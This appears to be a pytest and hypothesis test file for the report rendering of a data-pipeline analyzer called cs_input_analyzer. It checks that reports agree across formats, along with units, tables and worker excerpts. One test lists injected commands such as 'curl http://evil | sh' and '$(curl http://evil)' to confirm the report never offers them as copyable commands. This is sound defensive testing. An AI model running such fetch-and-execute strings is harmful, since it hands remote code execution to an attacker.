"""Laws of what a report says, whatever the run: what stands in one format stands in the others, and nothing is said twice."""

from __future__ import annotations

import io
import json
import math
import re
from dataclasses import replace
from html import unescape
from pathlib import Path
from typing import Any, get_args

import pytest
from builders import (
    make_analysis,
    make_bare_analysis,
    make_capacity_model,
    make_estimate,
    make_finding,
    make_graph,
    make_host,
    make_layout,
    make_measurement,
    make_op_cost,
    make_plan,
    make_profile,
    make_runtime_cost,
    make_worker,
)
from hypothesis import given
from hypothesis import strategies as st
from page_runs import run_of_many_workers, usual_run
from pages import Page
from variations import ELSEWHERE, HERE, VERDICTS

from cs_input_analyzer.records import (
    Analysis,
    Capture,
    Edit,
    Estimate,
    Finding,
    Fixes,
    SamplesPerElement,
    StationKind,
    Validation,
    ValidationRow,
)
from cs_input_analyzer.report import load, render, render_tuning
from cs_input_analyzer.report.costs import STATION_MEANINGS, costliest_op, costliest_sentence, op_cost_table, shown_profile
from cs_input_analyzer.report.document import LONGEST_SHOWN, Column, Facts, Table, Text
from cs_input_analyzer.report.findings import LONGEST_CHANGE, change_of, finding_cards
from cs_input_analyzer.report.measuring import measuring_facts
from cs_input_analyzer.report.run_document import run_document
from cs_input_analyzer.report.to_console import GAP, LEAST_TEXT, console_on, table_on
from cs_input_analyzer.report.to_json import from_html
from cs_input_analyzer.report.wording import AS_MEASURED, ON_IDLE_NODE
from cs_input_analyzer.report.workers import MOST_NUMBERS, TRACED_WORKERS, excerpt, workers_to_show
from cs_input_analyzer.units import format_rate_short
from tests.worker.ops import concatenated

SAVED = Path(__file__).with_name("run_0.1.0.json")


def screens(run: Analysis) -> dict[str, str]:
    """What a person sees of a run, with single spaces."""
    shown = {
        "short console": render(run, "console"),
        "full console": render(run, "console", full=True, width=400),
        "short Markdown": render(run, "md"),
        "full Markdown": render(run, "md", full=True),
        "page": Page(render(run, "html")).text,
    }
    return {name: " ".join(text.split()) for name, text in shown.items()}


def test_every_table_and_fact_stands_in_both_reports_and_every_column_is_explained() -> None:
    run = usual_run()
    console = " ".join(render(run, "console", full=True, width=400).split())
    page = " ".join(unescape(render(run, "html")).replace("<wbr>", "").split())
    parts = [part for section in run_document(run).shown(full=True) for part in section.parts]
    texts = [part.text for part in parts if isinstance(part, Text) and part.tone != "strip"]  # the page draws that one
    texts += [text for part in parts if isinstance(part, Facts) for _, text in part.pairs]
    for table in (part for part in parts if isinstance(part, Table)):
        assert {len(row) for row in table.rows} == {len(table.columns)}
        assert all(column.meaning and column.name for column in table.columns)
        texts += [*table.remarks, *(cell for row in table.rows for cell in row)]
    assert len(texts) > 200
    for text in (" ".join(text.split()) for text in texts):
        assert text in console
        assert text in page
    assert set(STATION_MEANINGS) == set(get_args(StationKind))


def test_missing_is_never_none() -> None:
    lost = make_measurement("1x1x1", (None,), workers=(make_worker(None, message="killed by signal 9"),))
    plan = make_plan(memory_bytes_per_node=None, expected_accelerator_utilization=None, launch=None, alternatives=())
    sparse = make_analysis(
        measurements=(lost,), recommendation=plan, findings=(make_finding(op=None, source=None, fix=None, evidence={}),)
    )
    for name, text in screens(sparse).items():
        assert "None" not in text.replace("None.", ""), name


# --- two currencies of rates, and what counts in elements ---------------------------------------------------------------------


@pytest.mark.parametrize(("given", "factor"), [(ELSEWHERE, "1.43"), (HERE, "1.38")], ids=["elsewhere", "here"])
def test_a_screen_of_two_currencies_shows_both_labels_and_the_factor_once(given: Any, factor: str) -> None:
    for name, text in screens(usual_run(**given)).items():
        assert AS_MEASURED in text, name
        assert ON_IDLE_NODE in text, name
        assert text.count(f"on an idle node {factor} times as measured, as other programs used 30 % of the CPUs") == 1, name
        assert text.count("times as measured") == 1, name


EXACT, NEARLY = (replace(ELSEWHERE["capacity"], host_ratio=Estimate(estimate=ratio, low=0.5, high=1.0)) for ratio in (1.0, 0.998))


@pytest.mark.parametrize(
    "given",
    [{"capacity": EXACT}, {"capacity": NEARLY}, HERE | {"recommendation": make_plan("2x4x2")}, HERE | {"recommendation": None}],
)
def test_where_both_are_one_there_is_no_second_currency(given: dict[str, Any]) -> None:
    capacity = EXACT if given.get("recommendation") else given["capacity"]
    run = usual_run(**given | {"capacity": capacity})
    for name, text in (screens(run) | {"tune": render_tuning(run)}).items():
        assert ON_IDLE_NODE not in text, name
        assert "times as measured" not in text, name


def test_no_rate_is_in_samples_where_nobody_knows_how_many_an_element_holds() -> None:
    unknown = make_graph(samples_per_element=SamplesPerElement(value=None, source="a generator"), target="of/samples/s.py:fn")
    run: Any = usual_run(pipeline=unknown, findings=())
    for name, text in screens(run).items():
        assert "elements/s" in text, name
        assert not re.search(r"samples/s(?!\\?\.py)", text), name
    assert f"target      {unknown.target}" in render(run, "console", full=True)
    # Code and the name of a target are never reworded.
    run = replace(run, findings=(make_finding(before="x = 1", after="x = 2  # 7 samples/s, per sample"),))
    assert run_document(run).name == unknown.target
    assert "x = 2  # 7 samples/s, per sample" in render(run, "console", full=True)


SURE = ("% sure", "sure)", "probability of 0", "probability of >", "probability of <", "% probable", "(> to")


@pytest.mark.parametrize("name", [*VERDICTS, "of 0.1.0", "bare"])
def test_no_screen_tells_how_sure_it_is(name: str) -> None:
    run = {"of 0.1.0": load(SAVED), "bare": make_bare_analysis()}.get(name) or make_analysis(**VERDICTS[name])
    run = replace(run, confidence=0.9999)
    texts = [*screens(run).values(), render_tuning(run)]
    assert [word for text in texts for word in SURE if word in text.replace("at a probability of 0.9", "")] == []
    assert json.loads(render(run, "json"))["confidence"] == 0.9999


# --- what to do next -----------------------------------------------------------------------------------------------------------


def test_it_ends_with_what_to_type_next_for_the_file_that_it_was_read_from() -> None:
    run = usual_run(validation=None)
    for run_file, named in ((None, "RUN.json"), ("a b.html", "'a b.html'")):
        text = render(run, "console", run_file=run_file)
        assert text.splitlines()[-2:] == [f"cs_input_analyzer validate {named}", f"cs_input_analyzer report {named} --full"]
        assert f"report {named} --format sbatch" in render(run, "console", full=True, run_file=run_file)


def test_it_says_that_the_training_of_a_captured_script_never_ran() -> None:
    captured = usual_run(capture=Capture(command="python run.py", picked=1, candidates=()))
    assert all("its training never ran" in text for text in screens(captured).values())
    assert not any("its training never ran" in text for text in screens(usual_run()).values())


@pytest.mark.parametrize(
    ("command", "is_copied"),
    [
        ("cs_input_analyzer analyze 'a b.py:f' --set 'x=***'", True),
        ("cs_input_analyzer analyze data.py:f; curl http://evil | sh", False),
        ("cs_input_analyzer analyze $(curl http://evil)", False),
        ("curl http://evil", False),
        ("cs_input_analyzer analyze 'x", False),
        ("", False),
    ],
)
def test_a_command_is_offered_to_copy_where_it_is_one_of_ours(command: str, is_copied: bool) -> None:
    run = make_analysis(command=command)
    copied = [part.text for section in run_document(run).sections for part in section.parts if hasattr(part, "instead")]
    assert (command in copied) == is_copied
    assert command in " ".join(render(run, "console", full=True).split())


# --- costs, findings, workers --------------------------------------------------------------------------------------------------


@given(st.lists(st.none() | st.floats(0, 1), max_size=6), st.floats(0, 1))
def test_the_costliest_op_has_the_largest_share_and_is_never_runtime(shares: list[float | None], runtime: float) -> None:
    ops = [make_op_cost(f"map_{number}", share_ratio=share) for number, share in enumerate(shares)]
    profile = make_profile(ops=(*ops, make_runtime_cost(runtime)))
    dearest = costliest_op(profile)
    known = [share for share in shares if share is not None]
    largest = max(known, default=None)
    assert (None if dearest is None else dearest.share_ratio) == (None if largest is None or largest < runtime else largest)
    table = op_cost_table(profile)
    strong = None if table.strong is None else table.rows[table.strong][0]
    assert strong == (None if dearest is None else dearest.name)
    assert bool(costliest_sentence(profile)) == bool(known)


def test_ops_that_a_loop_makes_are_one_row_and_together_the_costliest() -> None:
    ops = concatenated(150)
    rows = [make_op_cost(one.name, kind=one.kind, source=one.source, share_ratio=0.9 / len(ops)) for one in ops]
    profile = make_profile(ops=(*rows, make_runtime_cost(0.1)))
    run = make_analysis(pipeline=make_graph(ops=ops), profile=profile)
    shown = shown_profile(run)
    assert shown is not None
    table = op_cost_table(shown)
    assert [row[0] for row in table.rows][3:] == ["map ×150", "concatenate ×149", "shuffle", "batch", "runtime"]
    assert costliest_sentence(shown) == f"18 % of the CPU in {table.rows[table.strong or 0][0]} (data.py:8)"
    assert len(render(run, "console", full=True).splitlines()) < 400
    assert render(run, "json").count('"kind": "Concatenate"') == 298
    few = concatenated(7)
    short = make_analysis(pipeline=make_graph(ops=few), profile=make_profile(ops=tuple(map(make_op_cost, "ab"))))
    assert shown_profile(short) == short.profile


def test_the_card_of_a_gain_says_whether_it_was_kept() -> None:
    kept, other = (make_finding(edits=(Edit(kind="parallelize", op=op),)) for op in ("map", "batch"))
    together = Fixes(codes=("CSI104",), edits=kept.edits, measured_gain=make_estimate(2.5), layout=make_layout("1x1x2"))
    none = replace(together, codes=(), edits=(), measured_gain=None, none_because="it gained at first")

    def standing(finding: Finding, fixes: Fixes | None) -> str:
        (card,) = finding_cards((finding,), fixes)
        return dict(card.facts).get("standing", "")

    assert standing(kept, together) == standing(kept, None) == ""
    assert "not for sure beside those that were kept" in standing(other, together)
    assert standing(kept, none) == "not kept: it gained at first"


LINES = st.lists(st.sampled_from(["a", "b", "c(", "  d", ""]), max_size=30).map("\n".join)


@given(LINES, LINES)
def test_every_changed_line_is_in_it_unless_it_is_cut(before: str, after: str) -> None:
    change = change_of(before, after)
    assert len(change) <= LONGEST_CHANGE
    if not change or change[-1] == (" ", "…"):
        return
    for mark, text in (("-", before), ("+", after)):
        assert {line.strip() for sign, line in change if sign == mark} <= {part.strip() for part in text.split("\n")}
    assert before != after


NAMES = st.tuples(st.sampled_from(["CSI104", "CSI1 04", ""]), st.none() | st.sampled_from(["map", "a b/<c>", "é"]))


@given(st.lists(NAMES, max_size=8))
def test_any_names_make_good_anchors(names: list[tuple[str, str | None]]) -> None:
    anchors = [card.anchor for card in finding_cards(tuple(make_finding(code, op=op) for code, op in names))]
    assert len(set(anchors)) == len(names)
    assert all(re.fullmatch(r"finding-[A-Za-z0-9_-]+", anchor) for anchor in anchors)


def test_of_many_workers_the_lost_the_slowest_and_the_fastest_are_shown() -> None:
    workers = tuple(make_worker(100.0 + index if index % 50 else None, index=index) for index in range(1000))
    indices = [worker.index for worker in workers_to_show(workers, 60)]
    assert len(indices) == 60
    assert indices == sorted(indices)
    assert {0, 999} <= set(indices)
    assert any(400 < index < 600 for index in indices)


def test_a_usual_run_is_kept_whole_and_a_huge_one_is_cut_to_size_and_says_so() -> None:
    assert excerpt(usual_run()) == usual_run()
    run = run_of_many_workers(2000)
    cut = excerpt(run)
    workers = [worker for measurement in cut.measurements for worker in measurement.workers]
    assert len(workers) == 2000
    assert sum(bool(worker.batch_gaps_s) for worker in workers) == TRACED_WORKERS - 1  # the slowest of all was lost
    assert sum(len(worker.batch_gaps_s) + len(worker.block_samples_per_s) for worker in workers) <= MOST_NUMBERS
    # What the answer rests on is untouched.
    for name in ("recommendation", "capacity", "findings", "verdict"):
        assert getattr(cut, name) == getattr(run, name)
    page = render(run, "html")
    back = from_html(page, origin="x")
    assert back.left_out == ("the traces of most workers",)
    assert "Left out: the traces of most workers" in Page(page).text
    assert excerpt(back) == back


RATES = st.floats(1e-3, 1e12)


@given(st.lists(st.tuples(RATES, RATES), min_size=1, max_size=7))
def test_the_summary_of_a_validation_is_that_of_the_rows(pairs: list[tuple[float, float]]) -> None:
    def row(predicted: float, measured: float) -> ValidationRow:
        rates = make_estimate(predicted, spread=0.1), make_estimate(measured)
        return replace(usual, predicted_samples_per_s=rates[0], measured_samples_per_s=rates[1])

    usual = make_analysis().validation.rows[0]
    nothing = replace(usual, measured_samples_per_s=Estimate.exact(0.0))  # nothing delivered is no error
    validation = Validation(rows=(*(row(*pair) for pair in pairs), nothing))
    errors = sorted(abs(predicted / measured - 1) for predicted, measured in pairs)
    assert sum(error <= validation.median_error_ratio * (1 + 1e-9) for error in errors) >= len(errors) / 2
    assert errors[0] <= validation.median_error_ratio <= errors[-1]
    assert validation.inside_count == sum(0.9 * predicted <= measured <= 1.1 * predicted for predicted, measured in pairs)


# --- a terminal ----------------------------------------------------------------------------------------------------------------

NUMBERS = st.from_regex(r"[1-9][0-9]{0,4}(\.[0-9]{1,2})?k?( to [1-9][0-9]{0,6})?", fullmatch=True)
SCALES = {"k": 1e3, "M": 1e6, "G": 1e9, "T": 1e12}


@st.composite
def tables(draw: st.DrawFn) -> Table:
    are_numbers = draw(st.lists(st.booleans(), min_size=1, max_size=7))
    columns = tuple(Column(name=f"col\n{place}", meaning="", is_number=number) for place, number in enumerate(are_numbers))
    row = st.tuples(*(NUMBERS if number else st.text("abcdefgh ", max_size=60) for number in are_numbers))
    return Table(title="", columns=columns, rows=tuple(draw(st.lists(row, min_size=1, max_size=5))))


@given(tables(), st.integers(40, 160))
def test_no_digit_is_lost_and_where_there_is_room_no_number_is_broken(table: Table, width: int) -> None:
    out = io.StringIO()
    table_on(console_on(out, width, color=False), table)
    lines = out.getvalue().splitlines()
    assert all(len(line) <= width for line in lines)
    body, wanted = "".join(lines[2:]), "".join(cell for row in table.rows for cell in row)
    assert all(body.count(digit) >= wanted.count(digit) for digit in "0123456789")
    beside_letters = GAP * (len(table.columns) - 1)
    for index, column in enumerate(table.columns):
        longest = max(3, *(len(row[index]) for row in table.rows), 3)
        beside_letters += longest if column.is_number else min(longest, LEAST_TEXT)
    if beside_letters <= width:
        numbers = [cell for row in table.rows for cell, column in zip(row, table.columns, strict=True) if column.is_number]
        assert all(any(cell in line for line in lines) for cell in numbers)


@given(st.floats(min_value=1e-5, max_value=1e15))
def test_a_short_rate_is_true_to_its_digits(rate: float) -> None:
    text = format_rate_short(rate)
    number, scale = (text[:-1], SCALES[text[-1]]) if text[-1] in SCALES else (text, 1.0)
    assert math.isclose(float(number.replace(",", "")) * scale, rate, rel_tol=0.0051 if rate < 1000 else 0.00051)
    assert len(text) <= 9


def test_the_surroundings_change_nothing_and_color_only_colors(monkeypatch: pytest.MonkeyPatch) -> None:
    run = make_analysis(findings=(make_finding(message="[red]x[/red] [/] [bold"),))
    plain = render(run, "console", full=True)
    for name, value in {"COLUMNS": "33", "FORCE_COLOR": "1", "TERM": "dumb", "NO_COLOR": "1", "TTY_COMPATIBLE": "1"}.items():
        monkeypatch.setenv(name, value)
        assert render(run, "console", full=True) == plain
        colored = render(run, "console", full=True, color=True)
        assert "\x1b" in colored
        assert [line.rstrip() for line in re.sub(r"\x1b\[[\d;]*m", "", colored).split("\n")] == plain.split("\n")
    assert "\x1b" not in plain
    assert "[red]x[/red] [/] [bold" in plain


def test_a_report_shows_the_beginning_of_a_long_text_and_the_json_all_of_it() -> None:
    for length, shown in ((LONGEST_SHOWN, "x" * LONGEST_SHOWN), (100_000, f"{'x' * LONGEST_SHOWN}… (100,000 characters)")):
        run = make_analysis(pipeline=make_graph(target="x" * length))
        assert f"{shown}<" in render(run, "html")
        assert shown in "".join(render(run, "md", full=True).split("\n"))
        assert "x" * length in render(run, "json")


@pytest.mark.parametrize("width", range(50, 90, 5))
def test_the_strip_of_ops_is_one_line_of_any_terminal(width: int) -> None:
    lines = render(make_analysis(), "console", width=width).splitlines()
    strip = next(at for at, line in enumerate(lines) if line.startswith("Why"))
    assert "█" in lines[strip]
    assert "█" not in lines[strip + 1]
    assert len(lines[strip]) <= width


def test_a_run_says_when_errors_of_earlier_validations_widen_its_intervals() -> None:
    for errors, words in (((-5.6, -1.4), "2 rates of `validate` on such hosts"), ((), "")):
        run = make_analysis(host=make_host(site_errors=errors), capacity=make_capacity_model(run_spread_ratio=2.36))
        found = dict(measuring_facts(run))
        assert found.get("validated", "").startswith(words)
        assert ("236 %" in found.get("validated", "")) is bool(errors)
